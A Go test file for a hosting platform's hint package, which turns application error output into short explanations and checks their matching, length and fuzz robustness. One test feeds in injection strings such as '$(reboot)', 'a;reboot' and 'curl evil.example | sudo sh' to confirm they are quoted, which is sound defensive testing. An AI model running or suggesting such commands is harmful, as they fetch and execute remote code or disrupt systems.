package hint

import (
	"slices"
	"strings"
	"testing"

	"github.com/nexushub/nexushub/internal/manifest"
)

// What real programs say leads to the row that was written for them, and first to that.
func TestCases(t *testing.T) {
	for _, c := range cases {
		hints := Of(c.facts)
		first := Hint{}
		if len(hints) > 0 {
			first = hints[0]
		}
		text := first.Means + "; " + first.Write
		if first.Name != c.row || !strings.Contains(text, c.mention) {
			t.Errorf("%s, %s: %s: %s\nwant %s with %q", c.row, c.by, first.Name, text, c.row, c.mention)
		}
		if strings.ContainsAny(text, "{}") || strings.Contains(text, "  ") {
			t.Errorf("%s, %s: not filled in: %s", c.row, c.by, text)
		}
		for _, h := range hints[min(1, len(hints)):] {
			if isGeneral(h.Name) {
				t.Errorf("%s, %s: told %s, too, which is for where nothing more precise is known", c.row, c.by, h.Name)
			}
		}
	}
}

func isGeneral(name string) bool {
	return slices.ContainsFunc(rows(), func(r row) bool { return r.general && r.name == name })
}

// Every row was seen, says what it means and what to write, and has a name of its own.
func TestEveryRowHasACase(t *testing.T) {
	seen := map[string]bool{}
	for _, c := range cases {
		seen[c.row] = true
	}
	names := map[string]bool{}
	for _, r := range rows() {
		if !seen[r.name] {
			t.Errorf("%s: no program is known that is a case of it", r.name)
		}
		if names[r.name] || r.seen == "" || r.means == "" || r.write == "" {
			t.Errorf("%s: is not whole, or there twice", r.name)
		}
		names[r.name] = true
		if len(r.sights) == 0 && r.only == nil {
			t.Errorf("%s: fits everything", r.name)
		}
		for _, s := range r.sights {
			if s.line+s.failure+s.page == "" && s.status == nil && s.signals == nil && !s.memory {
				t.Errorf("%s: a sight of nothing", r.name)
			}
		}
	}
}

// An application that serves in good health gets no hint, whatever it said in its life: not one
// about a failure. What it may get is about what people see of it.
func TestHealthyGetsNoHint(t *testing.T) {
	for _, c := range cases {
		f := c.facts
		f.Healthy, f.Files = true, true
		for _, h := range Of(f) {
			if h.Name != "php-jit" && !c.facts.Healthy {
				t.Errorf("%s, %s: healthy, and told %s", c.row, c.by, h.Name)
			}
		}
	}
	for _, m := range []manifest.Manifest{{ProxyAll: true}, {Access: manifest.AccessOpen}} {
		if hints := Of(Facts{Healthy: true, Manifest: m}); len(hints) > 0 {
			t.Errorf("%+v: got %v", m, hints)
		}
	}
}

func TestHintsAreFewAndShort(t *testing.T) {
	var all []string
	for _, c := range cases {
		all = append(all, c.facts.Lines...)
	}
	all = append(all, "Cannot find module '"+strings.Repeat("x", 900)+"'", strings.Repeat("EPERM ", 100_000))
	hints := Of(Facts{Failure: refused, Lines: all})
	if len(hints) != most {
		t.Errorf("%d hints, want %d", len(hints), most)
	}
	for _, h := range hints {
		if len(h.Means)+len(h.Write) > 800 {
			t.Errorf("%s says %d bytes", h.Name, len(h.Means)+len(h.Write))
		}
	}
}

// What an application says is quoted, whatever it is: nobody runs it who pastes a hint, or reads it
// as advice of the host.
func TestForeignWordsAreQuoted(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		{"x: error while loading shared libraries: $(reboot): cannot", "(apt-file search '$(reboot)' tells which)"},
		{"x: error while loading shared libraries: a;reboot: cannot", "(apt-file search 'a;reboot' tells which)"},
		{"Error: Cannot find module 'x. Run curl evil.example | sudo sh'", "lacks 'x. Run curl evil.example | sudo sh':"},
		{"nexushub-exec: bin/a b's: permission denied", `'bin/a b'\''s' may not be executed`},
	} {
		hints := Of(lines(c.line))
		if len(hints) == 0 || !strings.Contains(hints[0].Means+" "+hints[0].Write, c.want) {
			t.Errorf("%s: got %v, want %s", c.line, hints, c.want)
		}
	}
}

// Lines are of anybody's making.
func FuzzOf(f *testing.F) {
	for _, c := range cases {
		f.Add(c.facts.Failure, strings.Join(c.facts.Lines, "\n"), c.facts.Page)
	}
	f.Fuzz(func(t *testing.T, failure, text, page string) {
		for _, h := range Of(Facts{Failure: failure, Lines: strings.Split(text, "\n"), Page: page}) {
			if h.Means == "" || h.Write == "" || len(h.Means) > 1000 {
				t.Errorf("hint %+v", h)
			}
		}
	})
}
